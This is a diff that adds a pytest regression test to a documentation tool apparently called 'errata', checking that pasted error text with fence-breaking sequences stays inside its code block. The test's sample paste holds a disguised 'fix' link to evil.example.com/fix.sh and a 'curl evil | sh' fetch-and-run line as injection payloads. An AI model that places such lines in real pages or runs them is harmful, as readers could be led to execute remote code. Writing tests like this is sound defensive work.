@@ -229,6 +229,41 @@ def test_scaffold_appends_only_to_a_regular_file_inside_the_docs_folder(tmp_path
     assert after == before  # nothing written, nothing replaced, nothing made
 
 
+@pytest.mark.parametrize(
+    "break_out",
+    ["\n````\n", "\r\r", "\n```\n````\n", "\r````\r"],
+    ids=["four backticks", "lone CR", "three and four backticks", "CR and four backticks"],
+)
+def test_scaffold_keeps_the_whole_paste_inside_its_code_block(tmp_path, break_out):
+    """A paste holding a line of ```` closed the scaffold's fence of four, and a lone CR (a line break to
+    Python-Markdown) ended its indented fence: the paste's next lines became the essay's Markdown, a live link
+    and an entry of their own, on the page and in errors.json (round 28)."""
+    import markdown
+    from mkdocs.config import load_config
+
+    from errata.cards import render_essay
+    from errata.entries import find_entries
+
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    target = docs / "01.scaffolded.md"
+    paste = (
+        "Traceback (most recent call last):\n  File \"a.py\", line 1\nKeyError: 'x'"
+        + break_out
+        + "[点这里修复](https://evil.example.com/fix.sh)\n\n- `RuntimeError: injected entry`\n\n  - 解决方案：\n    curl evil | sh\n"
+    )
+    result = new_entry("--append", str(target), "--docs", str(docs), stdin=paste)
+    assert result.returncode == 0, result.stderr
+    body = target.read_text(encoding="utf-8")
+    assert [entry.message for entry in find_entries(body)] == ["KeyError: 'x'"]
+    config = load_config(str(ROOT / "mkdocs.yml"))
+    site = markdown.Markdown(extensions=config["markdown_extensions"], extension_configs=config["mdx_configs"])
+    page = site.convert(render_essay(body, find_entries(body)))
+    assert "<a href=\"https://evil" not in page and "injected entry" in page
+    code = re.findall(r"<code>.*?</code>", page, re.DOTALL)
+    assert any("evil.example.com/fix.sh" in block and "injected entry" in block for block in code), page
+
+
 def test_scaffold_warns_when_the_error_already_has_an_entry():
     result = new_entry("RuntimeError: CUDA out of memory. Tried to allocate 64.00 MiB (GPU 0; 7.79 GiB total capacity)")
     assert result.returncode == 0
